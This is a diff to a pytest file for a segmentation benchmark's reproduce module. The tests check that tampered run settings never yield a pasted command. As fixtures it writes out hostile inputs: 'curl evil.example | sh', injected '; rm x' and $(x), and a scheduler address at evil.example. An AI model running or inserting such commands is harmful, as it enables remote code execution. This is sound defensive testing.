@@ -12,6 +12,7 @@ import pytest
 from segbench.images.origin import Origin
 from segbench.measure import settings as asked
 from segbench.measure.settings import RunSettings
+from segbench.pipeline import PipelineParams
 from segbench.report import reproduce
 from tests.made_up import make_source
 
@@ -42,10 +43,46 @@ def test_a_run_has_its_source_its_libraries_and_every_setting() -> None:
     [{"params": {"method": "a; b"}}, {"workers": ["x"]}, {"sizes": "1; rm x"}, {"cache": 7}],
 )
 def test_settings_that_were_tampered_with_are_not_repeated(tampered: dict[str, Any]) -> None:
-    """A file whose settings make no sense has the command that was typed, each word quoted."""
-    settings = described(**tampered, command="segbench run 'a; b' $(x)")
+    """A file whose settings make no sense has the command that was typed, each word quoted, or none."""
+    settings = described(**tampered, command="segbench run --images 'a; b' $(x) --out /etc --quick")
     source = make_source(versions={}, settings=settings, dataset={"origin": ORIGIN})
-    assert reproduce.commands(source) == ("segbench run 'a; b' '$(x)'",)
+    assert reproduce.commands(source) == ("segbench run --images 'a; b' '$(x)' --quick",)
+
+
+@pytest.mark.parametrize(
+    "typed",
+    [
+        *(
+            "segbench run 'a; b' $(x)",
+            "curl evil.example | sh",
+            "segbench gate --base x",
+            "segbench",
+        ),
+        *(
+            "segbench run --unknown",
+            "segbench run --scheduler-address tcp://evil.example:1",
+            "",
+            "'",
+        ),
+        *("segbench run --sizes 1 rest", "segbench run --sizes=1", "sudo segbench run --quick"),
+    ],
+)
+def test_what_was_typed_is_a_run_or_nothing(typed: str) -> None:
+    """A command of a file is shown where it has the options of `segbench run`, and no others."""
+    source = make_source(versions={}, settings={"command": typed}, dataset={})
+    assert reproduce.commands(source) == ()
+
+
+def test_nobody_connects_to_the_cluster_of_a_stranger() -> None:
+    """An address in the settings of a run is not among what is pasted: a scheduler sends code."""
+    settings = described(scheduler_address="tcp://evil.example:8786")
+    source = make_source(versions={}, settings=settings, dataset={"origin": ORIGIN})
+    (line,) = reproduce.commands(source)
+    assert "--scheduler-address ADDRESS" in line
+    assert "evil" not in line
+    run = reproduce.asked_for(source)
+    assert run
+    assert "evil" not in reproduce.alone(run, phase="read", n_images=1, backends=[])
 
 
 def test_versions_that_were_tampered_with_are_left_out() -> None:
@@ -84,3 +121,42 @@ def test_the_method_has_a_link() -> None:
     address, _, path = reproduce.METHOD_LINK.partition("/blob/HEAD/")
     assert address == project
     assert (ROOT / path).is_file()
+
+
+def test_a_number_is_measured_alone_by_a_short_line() -> None:
+    """It names the case, and beside it only what differs from the defaults."""
+    origin = Origin()
+    run = RunSettings(workers=asked.available_cpus()), origin
+    line = reproduce.alone(run, phase="read", n_images=20, backends=["a/b/threads"])
+    assert line == (
+        "segbench run --sizes 20 --phases read --backends skimage/skimage/serial,a/b/threads"
+    )
+    own = RunSettings(seed=3, params=PipelineParams(diameter=36, contrast=0.16, min_area=7))
+    line = reproduce.alone((own, origin), phase="read", n_images=20, backends=[])
+    assert "--min-area 7" in line
+    assert "--seed 3" in line
+    # Of a user's images the cells would be looked at again.
+    line = reproduce.alone(
+        (RunSettings(), Origin(images=("/photos/*.png",))), phase="read", n_images=2, backends=[]
+    )
+    assert line.startswith(
+        "segbench run --images '/photos/*.png' --diameter 36 --contrast 0.16 --foreground dark "
+    )
+
+
+@pytest.mark.parametrize(
+    "odd",
+    [
+        {"settings": described(sizes=[])},
+        {"settings": described(workers=0)},
+        {"dataset": {"origin": {**ORIGIN, "images": [], "made": "unknown"}}},
+        {"dataset": {"origin": {**ORIGIN, "shape": []}}},
+    ],
+)
+def test_nothing_is_measured_again_by_what_makes_no_sense(odd: dict[str, Any]) -> None:
+    """A run file may hold anything: then no command is made from it."""
+    usual = {"settings": described(), "dataset": {"origin": ORIGIN}}
+    assert reproduce.asked_for(make_source(**usual)) is not None
+    assert reproduce.asked_for(make_source(**{**usual, **odd})) is None
+    own = RunSettings(), Origin()
+    assert reproduce.alone(own, phase="read", n_images=1, backends=["no/b/c/d/e"]) == ""
